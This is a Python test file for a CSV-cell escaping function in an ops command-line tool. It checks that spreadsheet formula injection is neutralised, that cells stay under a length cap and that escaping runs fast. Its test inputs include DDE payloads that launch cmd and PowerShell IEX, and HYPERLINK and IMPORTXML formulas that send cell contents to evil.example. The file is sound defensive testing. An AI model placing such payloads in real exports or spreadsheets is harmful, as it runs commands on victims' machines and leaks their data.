"""Text of an attacker in a cell, of a table or of a spreadsheet: it is only text."""

import time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from ops.cli.terminal import CSV_CELL_CHARS, csv_cell, one_line


@given(st.text(st.characters(codec=None)), st.integers(2, 50))
def test_a_cell_is_one_short_line(text: str, limit: int):
    line = one_line(text, limit)
    assert len(line) <= limit
    assert len(line.splitlines()) <= 1
    line.encode()


@pytest.mark.parametrize(
    "formula",
    [
        *("=1+1", "+1", "-1", "@SUM(A1)", " =1", "\t=1", "\t\t@x", "\u00a0=1", "\u3000=1"),
        *(
            "\n=cmd|' /C calc'!A0",
            "=cmd|'/C powershell IEX'!A0",
            "\r\n=1",
            "\t",
            "-2+3+cmd|' /C x'!D2",
        ),
        *("\uff1d1+1", "\uff0b1", "\uff0d1", "\uff20SUM(A1)"),
        '=HYPERLINK("http://evil.example?leak="&A1,"click")',
        '=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
    ],
)
def test_a_spreadsheet_gets_no_formula(formula: str):
    assert csv_cell(formula).startswith(("'", "\N{REPLACEMENT CHARACTER}"))


def test_ordinary_cells_are_left_alone():
    assert csv_cell("a = b") == "a = b"


def test_a_cell_holds_no_more_than_a_spreadsheet_takes():
    assert len(csv_cell("x" * 1024 * 1024)) == CSV_CELL_CHARS + 1
    assert len(csv_cell(";=" * 1024 * 1024)) == CSV_CELL_CHARS + 1


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        ("a;=1+1", "a;'=1+1"),
        ("a\t@x", "a\t'@x"),
        ("a\n-1", "a\n'-1"),
        ("a; =1;b", "a;' =1;b"),
        ("a=1; b", "a=1; b"),
    ],
)
def test_nothing_within_a_cell_becomes_one(text: str, cell: str):
    """Where semicolons or tabs part cells, what follows them begins one."""
    assert csv_cell(text) == cell


@pytest.mark.parametrize("sign", [";", "\t", "\n", " ", "=", "\t="])
def test_a_mebibyte_of_separators_takes_no_time(sign: str):
    started_s = time.perf_counter()
    csv_cell(sign * 1024 * 1024)
    assert time.perf_counter() - started_s < 2
